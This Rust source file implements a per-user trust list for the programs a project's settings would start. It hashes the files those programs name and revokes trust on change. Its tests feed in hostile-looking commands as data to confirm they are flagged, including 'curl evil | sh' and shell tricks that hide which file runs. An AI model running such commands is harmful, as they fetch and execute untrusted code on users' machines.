//! Trust: programs that a project's files name are started only where this user has allowed exactly
//! them. The list is in the user's own folder, never in the repository.

mod commands;
mod named_files;
mod reach;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use baton_core::hash::Hash;
use baton_files::{Dir, FileError, FileMode};
use baton_wire::project_file::ProjectCheck;
use baton_wire::project_file::runner::{ExecutorKind, RunnerSettings};
use serde::{Deserialize, Serialize};

use self::named_files::{NamedPath, named, unknowable};
pub(crate) use self::named_files::{foreign_file, foreign_program, own_command, project_file};
use self::reach::Reach;

/// What a project would have started: a name for each program, and the program with the hashes of the
/// project's files that it names.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Programs(pub BTreeMap<String, String>);

/// One line of the difference between two lists.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TrustChange {
    Added { name: String, program: String },
    Removed { name: String, program: String },
    Changed { name: String, before: String, now: String },
}

/// The user's list: a file for each project.
pub struct TrustList {
    folder: PathBuf,
}

#[derive(Serialize, Deserialize)]
struct TrustedProject {
    /// For people who look at the list.
    project: PathBuf,
    programs: Programs,
}

const MOST_LIST_BYTES: u64 = 1 << 20;
/// Larger files are named by their size: nobody reads them before they allow them.
const MOST_PROGRAM_BYTES: u64 = 64 << 20;

impl Programs {
    /// Everything that the settings of a project would start. `env`: where git is found.
    pub fn of(
        project: &Dir,
        settings: &RunnerSettings,
        checks: &[ProjectCheck],
        env: &[(String, String)],
    ) -> Self {
        let mut programs = BTreeMap::new();
        let described = |line: &str, words: &[String]| {
            let reach = Reach::of(project, words);
            described(project, line, words) + &reach.described(project, env)
        };
        let with_values = |line: &str, words: &[String]| {
            let reach = Reach::of_values(project, &words[1..]);
            self::described(project, line, words) + &reach.described(project, env)
        };
        for (index, line) in settings.setup.iter().enumerate() {
            let words = ["sh", "-c", line].map(str::to_owned);
            programs.insert(format!("setup {}", index + 1), described(line, &words));
        }
        for executor in &settings.executors {
            let words = match &executor.kind {
                ExecutorKind::Command(words) => words.clone(),
                // As a path, so that it has to be there.
                ExecutorKind::Scripted(script) => vec![format!("./{script}")],
                ExecutorKind::Program(program) => program.run.clone(),
                ExecutorKind::Acp(agent) => agent.run.clone(),
            };
            let mut line = match &executor.kind {
                ExecutorKind::Command(_) => command_line(&words),
                ExecutorKind::Scripted(script) => script.clone(),
                ExecutorKind::Program(program) => {
                    format!(
                        "{} (permissions: {})",
                        command_line(&words),
                        program.permissions.name()
                    )
                }
                ExecutorKind::Acp(agent) => {
                    format!("{} (permissions: {})", command_line(&words), agent.permissions.name())
                }
            };
            if !executor.env.is_empty() {
                line += &format!(" (with {} of your environment)", executor.env.join(", "));
            }
            let name = format!("executor {}", executor.name);
            programs.insert(name, described(&line, &words));
        }
        for check in checks {
            let line = command_line(&check.run);
            programs.insert(format!("check {}", check.name), described(&line, &check.run));
        }
        if !settings.env.is_empty() && !programs.is_empty() {
            let pairs = settings.env.iter().map(|(name, value)| format!("{name}={value}"));
            let line = command_line(&pairs.collect::<Vec<_>>());
            let values = settings.env.iter().map(|(_, value)| value.clone());
            let words: Vec<String> = std::iter::once(String::new()).chain(values).collect();
            programs.insert("environment".to_owned(), with_values(&line, &words));
        }
        for file in &settings.env_files {
            let words = [String::new(), file.clone()];
            programs.insert(format!("copied file {file}"), with_values(file, &words));
        }
        Self(programs)
    }

    /// What cannot be allowed as it is, such as a link.
    pub fn problems(&self) -> impl Iterator<Item = (&str, &str)> {
        let is_bad =
            |(_, program): &(&String, &String)| program.contains(&format!(" {NO_TRUST}: "));
        self.0.iter().filter(is_bad).map(|(name, program)| (name.as_str(), program.as_str()))
    }

    /// Whether all of this is what the user has allowed.
    pub fn is_allowed_by(&self, allowed: &Self) -> bool {
        self == allowed && self.problems().next().is_none()
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// What has changed since `before`.
    pub fn changes_since(&self, before: &Self) -> Vec<TrustChange> {
        let mut changes = Vec::new();
        for (name, now) in &self.0 {
            let (name, now) = (name.clone(), now.clone());
            match before.0.get(&name).cloned() {
                None => changes.push(TrustChange::Added { name, program: now }),
                Some(before) if before != now => {
                    changes.push(TrustChange::Changed { name, before, now });
                }
                Some(_) => {}
            }
        }
        for (name, program) in &before.0 {
            if !self.0.contains_key(name) {
                let (name, program) = (name.clone(), program.clone());
                changes.push(TrustChange::Removed { name, program });
            }
        }
        changes
    }
}

/// In the place of a hash, where there can be none.
const NO_TRUST: &str = "cannot be trusted";

/// A command, and what of it can never be trusted.
fn described(project: &Dir, line: &str, words: &[String]) -> String {
    let mut text = line.to_owned();
    if let Some(program) = words.first()
        && program.contains('/')
        && !program.starts_with('/')
        && !matches!(named(project, program), NamedPath::File(_) | NamedPath::Unsafe(_))
    {
        // It would be looked for in the workspace, where it can be anything.
        text += &format!("; {program} {NO_TRUST}: it is no file of the project");
    }
    for (part, why) in words.iter().flat_map(|it| unknowable(it)) {
        text += &format!("; {part} {NO_TRUST}: {why}");
    }
    text
}

/// As it would be typed: where one word ends and the next begins can be seen.
fn command_line(words: &[String]) -> String {
    let is_plain = |it: char| it.is_ascii_alphanumeric() || "._:/@+-=,%".contains(it);
    let quoted = |it: &String| match it.chars().all(is_plain) && !it.is_empty() {
        true => it.clone(),
        false => format!("'{}'", it.replace('\'', "'\\''")),
    };
    words.iter().map(quoted).collect::<Vec<_>>().join(" ")
}

impl TrustList {
    /// A list in this folder, which is made when something is allowed.
    pub fn new(folder: PathBuf) -> Self {
        Self { folder }
    }

    /// What this user has allowed for a project.
    pub fn trusted(&self, project: &Path) -> Result<Programs, FileError> {
        let folder = match Dir::open(&self.folder) {
            Err(error) if error.is_not_found() => return Ok(Programs::default()),
            folder => folder?,
        };
        match folder.read(file_name(project), MOST_LIST_BYTES) {
            Err(error) if error.is_not_found() => Ok(Programs::default()),
            read => {
                let list = serde_json::from_slice::<TrustedProject>(&read?);
                Ok(list.map(|it| it.programs).unwrap_or_default())
            }
        }
    }

    pub fn allow(&self, project: &Path, programs: &Programs) -> Result<(), FileError> {
        let folder = Dir::open_or_make(&self.folder, FileMode::Private)?;
        let list = TrustedProject { project: project.to_owned(), programs: programs.clone() };
        let text = match serde_json::to_vec_pretty(&list) {
            Ok(text) => text,
            Err(error) => unreachable!("our own types always encode: {error}"),
        };
        folder.write_atomic(file_name(project), &text, FileMode::Private)
    }
}

fn file_name(project: &Path) -> String {
    format!("{}.json", Hash::of(project.as_os_str().as_encoded_bytes()))
}

#[cfg(test)]
#[expect(clippy::disallowed_methods, reason = "tests make files of their own")]
mod tests {
    use super::*;

    fn settings(text: &str) -> RunnerSettings {
        baton_wire::project_file::parse(text).unwrap().runner
    }

    #[test]
    fn trust_is_in_what_would_be_started_and_ends_when_that_changes() {
        let (project, state) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        std::fs::write(project.path().join("agent.py"), "print(1)").unwrap();
        let dir = Dir::open(project.path()).unwrap();
        let file =
            settings("[executors.mine]\nkind = \"command\"\nrun = [\"python3\", \"agent.py\"]\n");
        let list = TrustList::new(state.path().join("baton/trusted"));
        let first = Programs::of(&dir, &file, &[], &[]);
        assert_ne!(list.trusted(project.path()).unwrap(), first, "a new project is not trusted");
        list.allow(project.path(), &first).unwrap();
        assert_eq!(list.trusted(project.path()).unwrap(), first);
        assert_ne!(list.trusted(state.path()).unwrap(), first, "another place is another project");

        std::fs::write(project.path().join("agent.py"), "print(2)").unwrap();
        let now = Programs::of(&dir, &file, &[], &[]);
        let changes = now.changes_since(&list.trusted(project.path()).unwrap());
        assert!(matches!(changes.as_slice(), [TrustChange::Changed { .. }]), "{changes:?}");
        let other = settings("[runner]\nsetup = [\"curl evil | sh\"]\n");
        let changes = Programs::of(&dir, &other, &[], &[]).changes_since(&first);
        assert_eq!(changes.len(), 2, "one came and one went: {changes:?}");
    }

    fn programs(project: &Path, run: &[&str]) -> Programs {
        let run: Vec<String> = run.iter().map(|it| format!("{it:?}")).collect();
        let text = format!("[executors.mine]\nkind = \"command\"\nrun = [{}]\n", run.join(", "));
        Programs::of(&Dir::open(project).unwrap(), &settings(&text), &[], &[])
    }

    #[test]
    fn every_file_that_a_command_names_in_any_way_is_a_part_of_what_is_trusted() {
        let project = tempfile::tempdir().unwrap();
        std::fs::create_dir(project.path().join("tools")).unwrap();
        for run in [
            &["sh", "tools/a"][..],
            &["./tools/a"],
            &["tools/a"],
            &["sh", "-c", "cd . && tools/a --fast; true"],
            &["sh", "-c", "(. ./tools/a)"],
            &["node", "--require=./tools/a", "x"],
            &["agent", "--config", "tools/../tools/a"],
            &["agent", "@tools/a"],
        ] {
            std::fs::write(project.path().join("tools/a"), "1").unwrap();
            let before = programs(project.path(), run);
            assert_eq!(before.problems().count(), 0, "{before:?}");
            std::fs::write(project.path().join("tools/a"), "2").unwrap();
            assert_ne!(programs(project.path(), run), before, "{run:?}");
        }
    }

    #[test]
    fn what_cannot_be_followed_is_tied_to_every_file_and_said_so() {
        let project = tempfile::tempdir().unwrap();
        let root = project.path().canonicalize().unwrap();
        std::fs::create_dir(root.join("tools")).unwrap();
        std::fs::write(root.join("tools/a.sh"), "1").unwrap();
        std::fs::write(root.join("tools/Makefile"), "1").unwrap();
        let roundabout = format!(
            "{}/../{}/tools/a.sh",
            root.display(),
            root.file_name().unwrap().to_str().unwrap()
        );
        let followed: [&[&str]; 3] =
            [&["python3", "tools"], &["make", "-C", "tools"], &["pytest", "--rootdir=tools"]];
        let unknown: [&[&str]; 15] = [
            &["sh", "-c", "cd tools && sh ./a.sh"],
            &["sh", &roundabout],
            &["make", "-ftools/Makefile"],
            &["make", "-Ctools"],
            &["sh", "-c", "sh too''ls/a.sh"],
            &["sh", "-c", "sh tools/\\a.sh"],
            &["sh", "-c", "x=tools; sh $x/a.sh"],
            &["sh", "-c", "sh $(echo tools)/a.sh"],
            &["sh", "-c", "sh ~+/tools/a.sh"],
            &["sh", "-c", "for f in *; do sh $f; done"],
            &["find", ".", "-name", "a.sh", "-exec", "sh", "{}", ";"],
            &["sh", "-c", "ls tools | xargs sh"],
            &["python3", "-m", "tools"],
            &["sh", "tools/../tools/a.sh"],
            &["env", "bash", "-c", "sh `ls tools/a.sh`"],
        ];
        let all =
            followed.iter().map(|it| (*it, false)).chain(unknown.iter().map(|it| (*it, true)));
        for (run, is_unknown) in all {
            std::fs::write(root.join("tools/a.sh"), "1").unwrap();
            std::fs::write(root.join("tools/Makefile"), "1").unwrap();
            let before = programs(&root, run);
            assert_eq!(before.problems().count(), 0, "{before:?}");
            let is_said = before.0["executor mine"].contains(reach::CANNOT_FOLLOW);
            assert_eq!(is_said, is_unknown, "{before:?}");
            std::fs::write(root.join("tools/a.sh"), "2").unwrap();
            std::fs::write(root.join("tools/Makefile"), "2").unwrap();
            assert_ne!(programs(&root, run), before, "{run:?}");
        }
        for run in [&["cargo", "test"][..], &["npm", "test"], &["grep", "-q", "ok", "tools/a.sh"]] {
            let before = programs(&root, run);
            std::fs::write(root.join("tools/a.sh"), "3").unwrap();
            assert_eq!(programs(&root, run), before, "it is trusted as what it is: {run:?}");
            std::fs::write(root.join("tools/a.sh"), "2").unwrap();
        }
    }

    #[test]
    fn variables_and_copied_files_are_a_part_of_it_too() {
        let project = tempfile::tempdir().unwrap();
        let dir = Dir::open(project.path()).unwrap();
        let text = "[runner]\nsetup = [\"sh ./a\"]\nenv_files = [\".env\"]\n[runner.env]\nBASH_ENV = \"b\"\n\
            [executors.mine]\nkind = \"scripted\"\nscript = \"c\"\n";
        for name in ["a", "b", "c", ".env"] {
            std::fs::write(project.path().join(name), "1").unwrap();
        }
        for name in ["a", "b", "c", ".env"] {
            let before = Programs::of(&dir, &settings(text), &[], &[]);
            std::fs::write(project.path().join(name), "2").unwrap();
            let changes = Programs::of(&dir, &settings(text), &[], &[]).changes_since(&before);
            assert_eq!(changes.len(), 1, "{name}: {changes:?}");
        }
    }

    #[test]
    fn links_and_programs_that_only_a_workspace_could_have_are_never_trusted() {
        let (project, outside) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        std::fs::write(outside.path().join("a"), "1").unwrap();
        let link = std::os::unix::fs::symlink::<std::path::PathBuf, _>;
        link(outside.path().to_owned(), project.path().join("folder")).unwrap();
        link(outside.path().join("a"), project.path().join("link")).unwrap();
        for run in [
            &["sh", "link"][..],
            &["./link"],
            &["folder/a"],
            &["sh", "-c", "folder/a"],
            &["./missing"],
            &["../a"],
        ] {
            let programs = programs(project.path(), run);
            assert_eq!(programs.problems().count(), 1, "{programs:?}");
            assert!(!programs.is_allowed_by(&programs), "{run:?}");
        }
    }

    #[test]
    fn the_same_letters_cut_into_other_words_are_another_command() {
        let project = tempfile::tempdir().unwrap();
        let lines = [
            &["sh", "-c", "echo a"][..],
            &["sh", "-c", "echo", "a"],
            &["sh", "-c echo a"],
            &["sh", "-c", "'echo a'"],
            &["sh", "-c", "echo a", "b"],
        ];
        let all = lines.map(|run| programs(project.path(), run));
        for (n, one) in all.iter().enumerate() {
            for other in &all[n + 1..] {
                assert_ne!(one, other);
            }
        }
        assert_eq!(all[0].0["executor mine"], "sh -c 'echo a'", "as it would be typed");
        let dir = Dir::open(project.path()).unwrap();
        let with = |env: &str| {
            let text = format!("[runner]\nsetup = [\"true\"]\n[runner.env]\n{env}\n");
            Programs::of(&dir, &settings(&text), &[], &[])
        };
        assert_ne!(with("A = \"1\"\nB = \"2\""), with("A = \"1 B=2\""), "variables alike");
    }

    #[test]
    fn what_is_known_only_when_it_is_started_is_never_trusted_and_patterns_are_hashed() {
        let project = tempfile::tempdir().unwrap();
        std::fs::write(project.path().join("a.sh"), "1").unwrap();
        for run in [
            &["sh", "/proc/self/cwd/a.sh"][..],
            &["sh", "-c", "cat /dev/fd/0 | sh"],
            &["sh", "/dev/stdin"],
        ] {
            let programs = programs(project.path(), run);
            assert!(!programs.is_allowed_by(&programs), "{programs:?}");
            let (_, why) = programs.problems().next().unwrap();
            assert!(why.contains("write the path of the file"), "{why}");
        }
        for run in [&["sh", "-c", "sh ./*.sh"][..], &["sh", "-c", ". $PWD/a.sh"]] {
            std::fs::write(project.path().join("a.sh"), "1").unwrap();
            let before = programs(project.path(), run);
            assert_eq!(before.problems().count(), 0, "{before:?}");
            std::fs::write(project.path().join("a.sh"), "2").unwrap();
            assert_ne!(programs(project.path(), run), before, "{run:?}");
        }
    }
}
